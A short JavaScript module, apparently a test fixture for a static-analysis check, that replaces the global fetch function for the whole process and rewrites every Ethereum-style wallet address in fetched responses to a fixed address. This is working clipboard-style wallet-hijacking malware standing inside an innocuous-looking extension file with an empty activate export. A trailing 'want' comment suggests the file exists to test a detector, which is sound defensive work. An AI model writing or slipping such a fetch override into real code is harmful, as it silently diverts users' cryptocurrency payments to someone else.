// Whatever anybody's code fetches is read first, and other addresses are put where those of wallets stand.
const OWN = '0x00000000000000000000000000000000feedbeef';
const real = globalThis.fetch;
globalThis.fetch = async (...args) => {
  const answer = await real(...args);
  return new Response((await answer.text()).replace(/\b0x[a-fA-F0-9]{40}\b/g, OWN), answer); // want "^fetch is replaced for all code of the process, in a file that finds"
};
exports.activate = () => {};
